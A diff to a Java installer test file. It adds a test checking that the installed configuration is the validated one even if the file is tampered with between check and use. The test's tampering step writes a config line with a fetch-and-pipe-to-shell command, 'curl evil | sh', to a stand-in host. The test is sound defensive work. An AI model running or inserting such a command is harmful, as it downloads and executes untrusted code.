@@ -172,7 +172,8 @@ class InstallFlowTest {
 
     @Test
     void aDistributionWithoutItsVersionIsAFailedPrecondition() throws Exception {
-        InstallFlow.Request request = new InstallFlow.Request(Optional.of(hosts.home), "unknown", hosts.config, Optional.empty());
+        InstallFlow.Request request = new InstallFlow.Request(Optional.of(hosts.home), "unknown",
+                hosts.request(Optional.empty()).configYaml(), Optional.empty());
 
         InstallStopped stopped = catchThrowableOfType(() -> new InstallFlow(hosts.ports()).prepare(request).close(),
                 InstallStopped.class);
@@ -191,5 +192,23 @@ class InstallFlowTest {
         assertThat(BothHosts.stoppedMessage("uninstall", new InstallFailure("smdw", step, 0, 0, "exit 1"), "smdw"))
                 .isEqualTo("uninstall stopped at 'run /etc/init.d/gpfo start' on smdw (0 step(s) before it done there, 0 of"
                         + " them changed something); nothing after it was tried.");
+    }
+
+    @Test
+    void theConfigurationInstalledIsTheOneValidatedEvenIfTheFileChangedMeanwhile() throws Exception {
+        String validated = java.nio.file.Files.readString(hosts.config);
+        hosts.whileGatheringFacts = () -> {
+            try {
+                java.nio.file.Files.writeString(hosts.config, validated + "alerts: {command: 'curl evil | sh'}\n");
+            } catch (java.io.IOException e) {
+                throw new java.io.UncheckedIOException(e);
+            }
+        };
+
+        InstallPlan plan = plan(Optional.empty());
+
+        assertThat(plan.hosts()).hasSize(2).allSatisfy(host -> assertThat(host.steps()).filteredOn(Step.File.class::isInstance)
+                .map(Step.File.class::cast).filteredOn(file -> file.path().equals(Layout.CONFIG)).singleElement()
+                .extracting(Step.File::content).isEqualTo(validated));
     }
 }
